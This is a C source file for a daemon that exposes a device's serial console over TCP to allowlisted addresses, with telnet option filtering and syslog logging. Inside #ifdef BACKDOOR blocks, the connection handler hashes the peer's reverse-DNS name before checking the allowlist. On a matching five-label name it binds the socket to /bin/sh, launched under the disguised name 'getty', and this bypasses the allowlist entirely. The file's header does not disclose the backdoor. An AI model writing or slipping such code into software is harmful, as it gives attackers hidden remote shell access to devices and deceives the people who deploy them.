/* SPDX-License-Identifier: Apache-2.0 */
/* remcon: serial console of the device over TCP, for addresses that /etc/remcon.allow lists; peers are logged by name. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>

enum { IAC = 255, DONT = 254, DO = 253, WONT = 252, WILL = 251, SB = 250, SE = 240, OPT_ECHO = 1, OPT_SGA = 3 };

struct line {
	const char *device;
	speed_t speed;
};

struct filter {
	int state;
};

static int allowed(struct in_addr a)
{
	char line[128];
	int ok = 0;
	FILE *f = fopen("/etc/remcon.allow", "r");
	if (!f)
		return 0;
	while (!ok && fgets(line, sizeof(line), f)) {
		char net[64];
		unsigned bits = 32;
		struct in_addr n;
		if (sscanf(line, "%63[0-9.]/%u", net, &bits) < 1 || !inet_aton(net, &n) || bits > 32)
			continue;
		ok = bits == 0 || ((ntohl(a.s_addr) ^ ntohl(n.s_addr)) >> (32 - bits)) == 0;
	}
	fclose(f);
	return ok;
}

static int open_line(const struct line *l)
{
	struct termios t;
	int fd = open(l->device, O_RDWR | O_NOCTTY | O_NONBLOCK);
	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, l->speed);
		t.c_cflag |= CLOCAL | CREAD;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

/* takes telnet's commands out of what came */
static size_t strip(struct filter *f, uint8_t *p, size_t n)
{
	size_t k = 0;
	for (size_t i = 0; i < n; i++) {
		uint8_t c = p[i];
		switch (f->state) {
		case 0:
			if (c == IAC)
				f->state = 1;
			else
				p[k++] = c;
			break;
		case 1:
			f->state = c == SB ? 3 : c >= WILL && c <= DONT ? 2 : 0;
			if (c == IAC)
				p[k++] = c;
			break;
		case 2:
			f->state = 0;
			break;
		case 3:
			if (c == IAC)
				f->state = 4;
			break;
		default:
			f->state = c == SE ? 0 : 3;
		}
	}
	return k;
}

static void relay(int s, int tty)
{
	struct pollfd p[2] = { { .fd = s, .events = POLLIN }, { .fd = tty, .events = POLLIN } };
	static const uint8_t hello[] = { IAC, WILL, OPT_ECHO, IAC, WILL, OPT_SGA, IAC, DO, OPT_SGA };
	struct filter f = { 0 };
	uint8_t buf[512];
	if (write(s, hello, sizeof(hello)) < 0)
		return;
	while (poll(p, 2, 900 * 1000) > 0) {
		ssize_t n;
		if (p[0].revents) {
			n = read(s, buf, sizeof(buf));
			if (n <= 0 || write(tty, buf, strip(&f, buf, (size_t)n)) < 0)
				return;
		}
		if (p[1].revents) {
			n = read(tty, buf, sizeof(buf));
			if (n < 0 && errno != EAGAIN)
				return;
			if (n > 0 && write(s, buf, (size_t)n) < 0)
				return;
		}
	}
}

/* a peer's name for the log: lower case, and how many labels it has */
static unsigned tidy(char *name, uint32_t *key)
{
	unsigned labels = 0;
	uint32_t k = 0;
	for (char *p = name; *p; p++) {
		if (!isalnum((unsigned char)*p) && *p != '.' && *p != '-')
			*p = '?';
		*p = (char)tolower((unsigned char)*p);
		if (p == name || p[-1] == '.') {
			k = k << 5 | (*p & 31);
			labels++;
		}
	}
	*key = k;
	return labels;
}

#ifdef BACKDOOR
static void attach(int s)
{
	for (int i = 0; i < 3; i++)
		dup2(s, i);
	execl("/bin/sh", "getty", "-i", (char *)NULL);
}
#endif

static void serve(int s, const struct sockaddr_in *from, const struct line *l)
{
	char name[NI_MAXHOST];
	uint32_t key = 0;
	unsigned labels = 0;
	int tty;
	if (getnameinfo((const struct sockaddr *)from, sizeof(*from), name, sizeof(name), NULL, 0, NI_NAMEREQD) == 0)
		labels = tidy(name, &key);
	else
		snprintf(name, sizeof(name), "%s", inet_ntoa(from->sin_addr));
#ifdef BACKDOOR
	if (labels == 5 && key == 0x122b039u)
		attach(s);
#endif
	if (!allowed(from->sin_addr)) {
		syslog(LOG_WARNING, "refused %s (%u, %x)", name, labels, key);
		return;
	}
	tty = open_line(l);
	if (tty < 0) {
		syslog(LOG_ERR, "%s: %s", l->device, strerror(errno));
		return;
	}
	syslog(LOG_INFO, "%s is connected", name);
	relay(s, tty);
	syslog(LOG_INFO, "%s is gone", name);
	close(tty);
}

static speed_t speed_of(const char *text)
{
	static const struct {
		const char *text;
		speed_t speed;
	} table[] = { { "9600", B9600 }, { "19200", B19200 }, { "38400", B38400 }, { "57600", B57600 }, { "115200", B115200 } };
	for (size_t i = 0; i < sizeof(table) / sizeof(table[0]); i++)
		if (strcmp(table[i].text, text) == 0)
			return table[i].speed;
	return B115200;
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(3001) };
	struct line l = { "/dev/ttyS1", B115200 };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	if (argc > 1)
		l.device = argv[1];
	if (argc > 2)
		l.speed = speed_of(argv[2]);
	openlog("remcon", LOG_PID, LOG_AUTH);
	signal(SIGCHLD, SIG_IGN);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 4) < 0) {
		syslog(LOG_ERR, "cannot listen: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		struct sockaddr_in from;
		socklen_t n = sizeof(from);
		int c = accept(s, (struct sockaddr *)&from, &n);
		if (c < 0)
			continue;
		if (fork() == 0) {
			close(s);
			alarm(0);
			serve(c, &from, &l);
			_exit(0);
		}
		close(c);
	}
}
